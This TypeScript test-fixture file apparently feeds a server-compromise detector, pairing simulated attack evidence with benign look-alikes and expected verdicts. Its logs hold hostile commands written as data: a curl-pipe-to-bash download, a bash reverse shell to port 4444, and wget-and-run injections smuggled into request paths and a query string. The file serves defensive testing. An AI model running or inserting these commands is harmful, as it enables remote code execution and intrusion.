import { appLog, at, caseStack, patchedStack } from './bundle-builder.js';
import type { MomentCase } from './moment-case.js';
import { access, appStack, evalStack, node, nutsFrom, recursion, start, top } from './pieces.js';

/** Moments around the case's monitor, the miner, and their benign twins. */
export const firstMoments: Record<string, MomentCase> = {
  'miner seen in docker top and docker diff': {
    atLeast: 'COMPROMISED',
    executed: 'yes',
    confidence: 'confirmed',
    mustFail: ['RTC-02', 'RTC-04', 'RTC-06'],
    moment: {
      capturedAt: '2025-12-13T08:40:00Z',
      pieces: [
        ...caseStack(),
        appLog(start('2025-12-12T22:58:06Z', '15.3.2')),
        top([
          node,
          '659168              497100              root                Sat Dec 13 08:18:23 2025   388   2412032   /AfUxImqu -c /jnEe -B',
        ]),
        {
          id: 'docker.diff',
          subject: 'container:payload-payload-1',
          text: 'C /tmp\nA /AfUxImqu\nA /jnEe\nA /XHHEw7Gp\n',
        },
        {
          id: 'docker.files',
          subject: 'container:payload-payload-1',
          text: '{"path":"/AfUxImqu","sizeBytes":3192832,"mode":"0755","uid":0,"sha256":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa","magic":"elf"}\n{"path":"/XHHEw7Gp","sizeBytes":144280,"mode":"0777","magic":"elf"}\n{"path":"/jnEe","sizeBytes":2100,"mode":"0644","magic":"text"}\n',
        },
      ],
    },
  },
  'three calls in 24,186 lines': {
    atLeast: 'COMPROMISED',
    calls: 3,
    executed: 'no',
    moment: {
      capturedAt: '2025-12-12T13:30:00Z',
      pieces: [
        ...caseStack(),
        appLog([
          ...start('2025-12-12T11:51:18Z', '15.3.2'),
          ...recursion('2025-12-12T12:22:27Z', nutsFrom('5.231.70.66'), evalStack, 8248),
          ...recursion('2025-12-12T12:22:29Z', '(whoami)', evalStack, 8219),
          ...recursion(
            '2025-12-12T13:24:27Z',
            'curl -fsSL http://nossl.segfault.net/deploy-all.sh | bash',
            evalStack,
            7719,
          ),
        ]),
      ],
    },
  },
  'one call in 8,247 lines': {
    atLeast: 'COMPROMISED',
    calls: 1,
    executed: 'no',
    moment: {
      capturedAt: '2025-12-15T09:00:00Z',
      pieces: [
        ...caseStack(),
        appLog([
          ...start('2025-12-14T11:51:18Z', '15.3.2'),
          ...recursion('2025-12-15T06:22:27Z', nutsFrom('5.231.70.66'), evalStack, 8247),
        ]),
      ],
    },
  },
  'patched by accident, cause never named': {
    atLeast: 'AT RISK',
    atMost: 'AT RISK',
    moment: {
      capturedAt: '2025-12-16T18:00:00Z',
      pieces: [
        ...caseStack('15.3.6'),
        appLog(start('2025-12-16T15:00:00Z', '15.3.6')),
        {
          id: 'case.reports',
          file: 'docs/a.md',
          text: '# Security Audit Report\n**Date:** 2025-12-12 13:30 UTC\n**Status:** UNSAFE - ACTIVE ATTACKS DETECTED\n- download of http://5.231.70.66/nuts/x86\n- attack vector: unknown\n',
        },
      ],
    },
  },
  'a reverse shell from another framework hole': {
    atLeast: 'COMPROMISED',
    moment: {
      capturedAt: '2026-02-01T10:00:00Z',
      pieces: [
        ...patchedStack(),
        appLog([
          ...start('2026-01-20T10:00:00Z', '16.4.5'),
          `${at('2026-02-01T09:00:00Z')} Error: Command failed: bash -c 'bash -i >& /dev/tcp/198.18.7.7/4444 0>&1'`,
          `${at('2026-02-01T09:00:00Z', 0, 5)}     at genericNodeError (node:internal/errors:984:15)`,
          `${at('2026-02-01T09:00:00Z', 0, 6)}     at ChildProcess.exithandler (node:child_process:422:12)`,
        ]),
      ],
    },
  },
  'the log shows the output of a download': {
    atLeast: 'COMPROMISED',
    moment: {
      capturedAt: '2025-12-14T10:00:00Z',
      pieces: [
        ...caseStack(),
        appLog([
          ...start('2025-12-14T08:00:00Z', '15.3.2'),
          `${at('2025-12-14T09:00:00Z')} Connecting to 51.81.104.115 (51.81.104.115:80)`,
          `${at('2025-12-14T09:00:01Z')} saving to 'x86'`,
          `${at('2025-12-14T09:00:02Z')} sh: ./x86: not found`,
        ]),
      ],
    },
  },
  'twin: recursion around git config': {
    atMost: 'AT RISK',
    mustNotFail: ['RTC-01', 'RTC-02', 'RTC-03', 'RTC-04', 'RTC-05', 'RTC-06', 'RTC-09', 'RTC-10', 'RTC-11'],
    moment: {
      capturedAt: '2025-12-12T09:00:00Z',
      pieces: [
        ...caseStack(),
        appLog([
          ...start('2025-12-12T08:31:00Z', '15.3.2'),
          ...recursion('2025-12-12T08:31:05Z', 'git config --local --get remote.origin.url', appStack, 8250),
        ]),
      ],
    },
  },
  'twin: git config recursion on a patched stack': {
    atMost: 'INCONCLUSIVE',
    mustNotFail: ['RTC-01', 'RTC-02', 'RTC-03', 'RTC-04', 'RTC-05', 'RTC-06', 'RTC-09', 'RTC-10', 'RTC-11'],
    moment: {
      capturedAt: '2026-11-20T09:00:00Z',
      pieces: [
        ...patchedStack(),
        appLog([
          ...start('2026-11-19T08:31:00Z', '16.4.5'),
          ...recursion('2026-11-19T08:31:05Z', 'git config --local --get remote.origin.url', appStack, 8250),
        ]),
      ],
    },
  },
  'twin: ffmpeg at 381 %': {
    atMost: 'AT RISK',
    mustNotFail: ['RTC-01', 'RTC-02', 'RTC-03', 'RTC-04', 'RTC-05', 'RTC-06', 'RTC-09', 'RTC-10', 'RTC-11'],
    moment: {
      capturedAt: '2025-12-11T12:00:00Z',
      pieces: [
        ...caseStack(),
        appLog(start('2025-12-11T08:31:00Z', '15.3.2')),
        top([
          node,
          '59168   497100   root   Thu Dec 11 11:18:23 2025   381   212032   ffmpeg -y -i /srv/media/show-2025-12-10.wav -c:a libmp3lame -b:a 192k /srv/media/show.mp3',
        ]),
      ],
    },
  },
  'twin: ten thousand refused probes and ssh noise': {
    atMost: 'INCONCLUSIVE',
    mustNotFail: ['RTC-01', 'RTC-02', 'RTC-03', 'RTC-04', 'RTC-05', 'RTC-06', 'RTC-09', 'RTC-10', 'RTC-11'],
    moment: {
      capturedAt: '2026-11-20T12:00:00Z',
      pieces: [
        ...patchedStack(),
        appLog(start('2026-11-18T08:00:00Z', '16.4.5')),
        access(
          Array.from(
            { length: 10_000 },
            (_, index) =>
              `162.158.22.${index % 250} - - [20/Nov/2026:11:${String(Math.floor(index / 170) % 60).padStart(2, '0')}:${String(index % 60).padStart(2, '0')} +0000] "GET /${['.env', 'wp-login.php', '.git/config', 'cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget%20http://198.18.1.1/x.sh|sh)', 'vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'][index % 5]} HTTP/1.1" 404 162 "-" "Mozilla/5.0"`,
          ),
        ),
        {
          id: 'auth.log',
          text: Array.from(
            { length: 3000 },
            (_, index) =>
              `2026-11-20T10:${String(Math.floor(index / 60) % 60).padStart(2, '0')}:${String(index % 60).padStart(2, '0')}.000000+00:00 web-2 sshd[${1000 + index}]: Failed password for invalid user admin from 198.18.${index % 200}.9 port ${40000 + index} ssh2`,
          ).join('\n'),
        },
      ],
    },
  },
  'twin: a crawler’s command in a query string, echoed by the app': {
    atMost: 'INCONCLUSIVE',
    moment: {
      capturedAt: '2026-11-20T12:00:00Z',
      pieces: [
        ...patchedStack(),
        access([
          '104.23.1.2 - - [20/Nov/2026:11:20:05 +0000] "GET /search?q=$(wget%20http://198.18.1.1/x.sh%20-O-|sh) HTTP/1.1" 400 162 "-" "curl/8"',
        ]),
        appLog([
          ...start('2026-11-18T08:00:00Z', '16.4.5'),
          `${at('2026-11-20T11:20:05Z')} ValidationError: The following field is invalid: q value "$(wget http://198.18.1.1/x.sh -O-|sh)"`,
        ]),
      ],
    },
  },
  'twin: a webhook that times out': {
    atMost: 'AT RISK',
    moment: {
      capturedAt: '2026-11-20T12:00:00Z',
      pieces: [
        ...patchedStack(),
        appLog([
          ...start('2026-11-18T08:00:00Z', '16.4.5'),
          `${at('2026-11-20T11:20:05Z')} Error: connect ETIMEDOUT 198.18.44.5:443`,
          `${at('2026-11-20T11:20:05Z', 0, 9)}     at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1555:16)`,
        ]),
      ],
    },
  },
  'twin: ffmpeg added by apk at start': {
    atMost: 'AT RISK',
    mustNotFail: ['RTC-01', 'RTC-02', 'RTC-03', 'RTC-04', 'RTC-05', 'RTC-06', 'RTC-09', 'RTC-10', 'RTC-11'],
    moment: {
      capturedAt: '2025-12-11T12:00:00Z',
      pieces: [
        ...caseStack(),
        appLog([
          `${at('2025-12-11T08:30:00Z')} fetch https://dl-cdn.alpinelinux.org/alpine/v3.21/main/x86_64/APKINDEX.tar.gz`,
          `${at('2025-12-11T08:30:05Z')} (1/60) Installing ffmpeg (6.1.2-r1)`,
          ...start('2025-12-11T08:31:00Z', '15.3.2'),
        ]),
        {
          id: 'docker.diff',
          subject: 'container:payload-payload-1',
          text: 'C /usr\nC /usr/bin\nA /usr/bin/ffmpeg\nA /usr/bin/ffprobe\nC /usr/lib\nA /usr/lib/libavcodec.so.60\nC /lib/apk/db/installed\nC /etc/apk/world\nC /tmp\nA /root/.npm\n',
        },
        {
          id: 'docker.files',
          subject: 'container:payload-payload-1',
          text: '{"path":"/usr/bin/ffmpeg","sizeBytes":292832,"mode":"0755","uid":0,"magic":"elf","packageOwned":true,"packageName":"ffmpeg"}\n{"path":"/usr/bin/ffprobe","sizeBytes":192832,"mode":"0755","uid":0,"magic":"elf","packageOwned":true,"packageName":"ffmpeg"}\n{"path":"/usr/lib/libavcodec.so.60","sizeBytes":9192832,"mode":"0755","uid":0,"magic":"elf","packageOwned":true,"packageName":"ffmpeg-libavcodec"}\n',
        },
      ],
    },
  },
  'almost nothing in hand': {
    atLeast: 'INCONCLUSIVE',
    atMost: 'INCONCLUSIVE',
    moment: {
      capturedAt: '2025-12-12T12:00:00Z',
      pieces: [{ id: 'host.uname', text: 'Linux web-2 6.1.0-18-amd64 #1 SMP Debian x86_64 GNU/Linux\n' }],
    },
  },
  'nothing in hand but a word': {
    atLeast: 'INCONCLUSIVE',
    atMost: 'INCONCLUSIVE',
    moment: {
      capturedAt: '2025-12-12T12:00:00Z',
      pieces: [{ id: 'docker.inspect', text: 'all containers are fine', testimony: 'all containers are fine' }],
    },
  },
};
